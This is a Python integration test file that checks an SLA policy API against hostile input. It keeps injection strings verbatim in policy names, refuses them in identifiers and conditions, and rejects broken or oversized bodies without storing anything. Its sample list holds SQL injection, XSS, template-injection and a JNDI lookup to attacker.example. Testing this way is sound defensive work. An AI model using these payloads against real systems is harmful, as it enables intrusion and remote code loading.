"""Hostile input on the SLA API: injection strings in a policy's name are kept verbatim; in its
identifiers, conditions and durations they are a 4xx naming the field; broken bodies and wrong
content types are 4xx problems. Nothing refused leaves a row or an outbox event."""

from __future__ import annotations

import pytest

from ccshared.service import runtime_of
from tests.integration.sla.conftest import Sla, fast_policy

INJECTIONS = [
    "'; DROP TABLE sla_policies; --",
    "<script>alert('x')</script>",
    "{{7*7}}${jndi:ldap://attacker.example/a}",
    "\u202eevil\u202c 紧急 投诉",
]
TABLES = ("sla_policies", "sla_calendars", "sla_tickets", "sla_timers", "outbox")


async def _counts(sla: Sla) -> dict[str, int]:
    return {t: await sla.count(f"SELECT count(*) FROM {t}") for t in TABLES}


async def test_names_are_kept_verbatim_and_structured_fields_refuse_injection(sla: Sla) -> None:
    for n, attack in enumerate(INJECTIONS):
        created = await sla.client.post(
            "/v1/policies", json=fast_policy() | {"id": f"p{n}", "name": attack}
        )
        assert created.status_code == 201, created.text
        assert (await sla.client.get(f"/v1/policies/p{n}")).json()["name"] == attack
    # The relay stopped: a refused request's outbox row (if any) must still be there to count.
    await runtime_of(sla.app).relay.stop()
    before = await _counts(sla)
    for n, attack in enumerate(INJECTIONS):
        for change in ({"id": attack}, {"targets": {"resolution": attack}}, {"calendar": attack}):
            body = fast_policy() | {"id": f"x{n}"} | change
            response = await sla.client.post("/v1/policies", json=body)
            assert 400 <= response.status_code < 500, (change, response.text)
            assert response.headers["content-type"] == "application/problem+json"
    assert await _counts(sla) == before


@pytest.mark.parametrize(
    ("content", "content_type", "status"),
    [
        (b'{"id": "x"', "application/json", 422),
        (b"id=x", "application/x-www-form-urlencoded", 422),
        (b'{"id": "' + b"x" * 2_000_000 + b'"}', "application/json", 413),
        (b'{"id": "nul\\u0000"}', "application/json", 422),
    ],
)
async def test_broken_bodies_are_4xx_problems_and_store_nothing(
    sla: Sla, content: bytes, content_type: str, status: int
) -> None:
    before = await _counts(sla)
    response = await sla.client.post(
        "/v1/policies", content=content, headers={"Content-Type": content_type}
    )
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert await _counts(sla) == before
